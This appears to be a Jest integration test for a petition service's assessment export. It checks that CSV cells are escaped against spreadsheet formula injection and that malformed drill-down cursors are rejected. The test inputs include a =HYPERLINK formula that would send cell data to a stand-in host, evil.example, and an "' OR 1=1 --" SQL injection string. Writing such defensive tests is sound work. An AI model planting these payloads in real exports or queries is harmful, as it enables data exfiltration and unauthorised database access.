import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { Role, Topics, UNIT_UPSERTED, UnitKind, UnitLevel, createEnvelope, type UnitUpsertedPayload } from '@petition/contracts';
import { encodeCursor } from '@petition/service-kit';
import { bearer, binaryBody, eventually } from '@petition/testing';
import { startAssessment, type AssessmentHarness } from './assessment-harness';

const supervisor = bearer([Role.Supervisor], null, 'supervisor-1');
/** What an admin might name a unit to make a supervisor's spreadsheet call out. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"区城管局")';

describe('assessment export: unit names are data, never formulas; drill-down cursors are checked (#20)', () => {
  let h: AssessmentHarness;
  const unitId = randomUUID();

  beforeAll(async () => {
    h = await startAssessment('2026-12-30T00:00:00+08:00');
    const payload: UnitUpsertedPayload = {
      unitId,
      code: '-D-001',
      name: FORMULA_NAME,
      level: UnitLevel.District,
      kind: UnitKind.FunctionalDepartment,
      parentId: null,
      regionCodes: [],
      categoryCodes: [],
      active: true,
    };
    const envelope = createEnvelope('directory', new Date(), { type: UNIT_UPSERTED, petitionId: null, payload });
    await h.producer.send({ topic: Topics.directory, messages: [{ key: unitId, value: JSON.stringify(envelope) }] });
    await eventually(async () => {
      const res = await request(h.url).get('/api/assessments').query({ period: '2026-Q4' }).set('Authorization', supervisor).expect(200);
      return (res.body.units as Array<{ unitId: string }>).some((u) => u.unitId === unitId) ? true : undefined;
    });
  });
  afterAll(async () => {
    await h?.stop();
  });

  it('neutralises a unit named =HYPERLINK(...) (and a code starting with -) in the CSV export', async () => {
    const csv = await request(h.url)
      .get('/api/assessments/export')
      .query({ period: '2026-Q4', format: 'csv' })
      .set('Authorization', supervisor)
      .buffer(true)
      .parse(binaryBody)
      .expect(200);
    const line = (csv.body as Buffer)
      .toString('utf8')
      .split('\r\n')
      .find((l) => l.includes(unitId)) as string;
    // The cell starts with an apostrophe: a spreadsheet shows the name instead of running it.
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""区城管局"")"`);
    expect(line).toContain(`,'-D-001,`);
    expect(line).not.toMatch(/(^|,)"?=HYPERLINK/);
  });

  it('answers a drill-down cursor that decodes but is no petition id with 400 on `cursor`', async () => {
    for (const cursor of [encodeCursor(["' OR 1=1 --"]), encodeCursor([42]), encodeCursor([randomUUID(), randomUUID()])]) {
      const res = await request(h.url)
        .get(`/api/assessments/${unitId}/2026-Q4/matters`)
        .query({ kpi: 'acceptance', cursor })
        .set('Authorization', supervisor)
        .expect(400);
      expect(res.body).toMatchObject({ code: 'VALIDATION_FAILED', details: [{ field: 'cursor', reason: expect.any(String) }] });
    }
  });
});
